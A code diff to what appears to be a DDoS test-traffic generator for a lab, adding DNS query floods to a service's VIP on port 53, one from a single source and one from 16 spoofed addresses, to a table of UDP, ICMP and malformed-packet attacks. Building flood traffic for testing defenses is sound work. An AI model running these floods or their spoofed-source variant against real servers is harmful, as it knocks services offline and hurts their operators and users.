@@ -19,6 +19,7 @@ from collections.abc import Callable
 from dataclasses import dataclass
 from ipaddress import IPv4Address
 
+from scapy.layers.dns import DNS, DNSQR
 from scapy.layers.inet import IP, TCP, UDP
 from scapy.layers.l2 import Ether
 from scapy.packet import Raw, raw
@@ -98,6 +99,34 @@ def udp_flood(target: Target) -> str:
     return _udp(target, _ip_bytes(target.own_address), "drnd(2)", 64)
 
 
+# What the DNS floods ask: a name of the default lab's zone (any query costs the server about the same).
+FLOOD_QNAME = "www.pop.example"
+# The few sources of the spread DNS flood: 100.127.53.1-16. A per-source limit upstream holds each of them
+# to its rate, and together they are still far over what a DNS server answers.
+FEW_SOURCES = "100, 127, 53, dinc(1, 16)"
+
+
+def _dns_query(target: Target, source: str) -> str:
+    # A recursion-desired query for FLOOD_QNAME with a random ID, from random ports to port 53.
+    question = raw(DNS(rd=1, qd=DNSQR(qname=FLOOD_QNAME)))[2:]
+    length = 8 + 2 + len(question)
+    body = ", ".join(f"0x{b:02x}" for b in question)
+    return (
+        "{\n  " + _eth(target) + ",\n  " + _ip_header(target, 17, 20 + length, source) + ",\n"
+        f"  drnd(2), const16(53), const16({length}), csumudp(14, 34),\n  drnd(2), {body}\n}}\n"
+    )
+
+
+def dns_flood(target: Target) -> str:
+    """DNS queries to VIP:53 from the attacker's own address (one source), random source ports."""
+    return _dns_query(target, _ip_bytes(target.own_address))
+
+
+def dns_flood_sources(target: Target) -> str:
+    """DNS queries to VIP:53 from 16 spoofed sources in turn (a few sources), random source ports."""
+    return _dns_query(target, FEW_SOURCES)
+
+
 def icmp_flood(target: Target) -> str:
     """ICMP echo requests to the VIP from the attacker's own address (a ping flood)."""
     return (
@@ -165,6 +194,8 @@ ATTACKS: dict[str, Callable[[Target], str]] = {
     "udp-reflection": udp_reflection,
     "udp-flood": udp_flood,
     "icmp-flood": icmp_flood,
+    "dns-flood": dns_flood,
+    "dns-flood-sources": dns_flood_sources,
     "malformed": malformed_mix,
 }
 
